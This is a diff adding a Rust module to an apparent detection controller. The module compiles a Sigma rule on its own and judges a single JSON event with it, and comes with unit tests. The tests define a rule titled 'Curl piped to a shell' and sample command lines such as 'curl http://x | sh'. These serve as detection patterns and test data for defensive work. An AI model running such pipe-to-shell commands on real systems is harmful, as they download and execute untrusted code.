@@ -1,0 +1,138 @@
+//! Trying a Sigma rule on one event, with nothing stored or installed: the rule (a stored one
+//! or pasted YAML) is compiled into a rule set of its own and judged by the same matcher the
+//! ingest path uses (`cordon_detect::RuleSet`). The event is either an event as the controller
+//! stores it (`cordon_proto::Event` as JSON), judged exactly as detection judges it, or an
+//! object of Sigma fields (`{"Image": "/usr/bin/curl", ...}`, with `category` naming the log
+//! source, `process_creation` unless given), as `cordonctl rules test` takes it.
+
+use super::{Controller, CoreError};
+use cordon_detect::fields::PROCESS_CREATION;
+use cordon_detect::{RuleSet, parse_rule};
+use cordon_proto::Event;
+use cordon_proto::limits::MAX_RULE_BYTES;
+use serde_json::Value;
+
+/// Largest event accepted, as JSON text.
+pub const MAX_TEST_EVENT: usize = 16 * 1024;
+
+/// The rule to try.
+#[derive(Debug, Clone)]
+pub enum RuleToTest {
+    /// A stored rule, by id.
+    Stored(String),
+    /// A rule's YAML.
+    Yaml(String),
+}
+
+/// What the rule made of the event.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RuleTest {
+    pub rule_id: String,
+    pub title: String,
+    pub level: String,
+    /// The log source category the event was judged as.
+    pub category: String,
+    pub matched: bool,
+}
+
+impl Controller {
+    /// Judges `event` (JSON text) with `rule`, as detection would.
+    pub async fn test_rule(&self, rule: RuleToTest, event: &str) -> Result<RuleTest, CoreError> {
+        let (origin, yaml) = match rule {
+            RuleToTest::Yaml(y) => ("pasted rule".to_string(), y),
+            RuleToTest::Stored(id) => {
+                let row = self.rules().await?.into_iter().find(|r| r.id == id);
+                let row = row.ok_or(CoreError::NoRule(id))?;
+                (row.origin, row.source)
+            }
+        };
+        judge(&origin, &yaml, event)
+    }
+}
+
+/// Compiles `yaml` alone and judges `event` with it.
+pub fn judge(origin: &str, yaml: &str, event: &str) -> Result<RuleTest, CoreError> {
+    if yaml.len() > MAX_RULE_BYTES {
+        return Err(CoreError::RuleTooLarge {
+            origin: origin.into(),
+            size: yaml.len(),
+        });
+    }
+    if event.len() > MAX_TEST_EVENT {
+        return Err(CoreError::TestEventTooLarge(event.len()));
+    }
+    let rule = parse_rule(yaml, origin).map_err(CoreError::BadRule)?;
+    let mut set = RuleSet::new();
+    set.insert(rule.clone()).map_err(CoreError::BadRule)?;
+    let value: Value =
+        serde_json::from_str(event).map_err(|e| CoreError::BadTestEvent(e.to_string()))?;
+    let (category, matched) = match serde_json::from_value::<Event>(value.clone()) {
+        Ok(e) => {
+            let category = cordon_detect::fields::view(&e).map(|(c, _)| c.to_string());
+            (category.unwrap_or_default(), !set.evaluate(&e).is_empty())
+        }
+        Err(_) => {
+            let Value::Object(mut fields) = value else {
+                let why = "it must be a JSON object".to_string();
+                return Err(CoreError::BadTestEvent(why));
+            };
+            let category = match fields.remove("category") {
+                Some(Value::String(c)) => c,
+                Some(_) => return Err(CoreError::BadTestEvent("category is text".into())),
+                None => PROCESS_CREATION.to_string(),
+            };
+            let matched = !set.evaluate_fields(&category, &fields).is_empty();
+            (category, matched)
+        }
+    };
+    Ok(RuleTest {
+        rule_id: rule.id,
+        title: rule.title,
+        level: rule.level,
+        category,
+        matched,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const RULE: &str = "title: Curl piped to a shell
+id: 0e1a7c39-4d7b-4bd7-9a53-1e3d7a8c2f10
+status: test
+level: high
+logsource:
+  category: process_creation
+  product: linux
+detection:
+  selection:
+    Image|endswith: /curl
+    CommandLine|contains: '| sh'
+  condition: selection
+";
+
+    #[test]
+    fn sigma_fields_match_or_not() {
+        let hit = r#"{"Image": "/usr/bin/curl", "CommandLine": "curl http://x | sh"}"#;
+        let t = judge("r", RULE, hit).unwrap();
+        assert!(t.matched && t.category == "process_creation" && t.level == "high");
+        let miss = r#"{"Image": "/usr/bin/wget", "CommandLine": "wget http://x | sh"}"#;
+        assert!(!judge("r", RULE, miss).unwrap().matched);
+        let file = r#"{"category": "file_event", "Image": "/usr/bin/curl", "CommandLine": "| sh"}"#;
+        assert!(!judge("r", RULE, file).unwrap().matched, "another category");
+    }
+
+    #[test]
+    fn bad_input_is_refused_naming_the_problem() {
+        let e = judge("r", "title: x\n", "{}").unwrap_err();
+        assert!(matches!(e, CoreError::BadRule(_)), "{e}");
+        let e = judge("r", RULE, "not json").unwrap_err();
+        assert!(e.to_string().contains("the event is not valid"), "{e}");
+        let e = judge("r", RULE, "[1]").unwrap_err();
+        assert!(e.to_string().contains("JSON object"), "{e}");
+        let big = format!("{{\"Image\": \"{}\"}}", "a".repeat(MAX_TEST_EVENT));
+        let e = judge("r", RULE, &big).unwrap_err();
+        assert!(matches!(e, CoreError::TestEventTooLarge(_)), "{e}");
+    }
+}
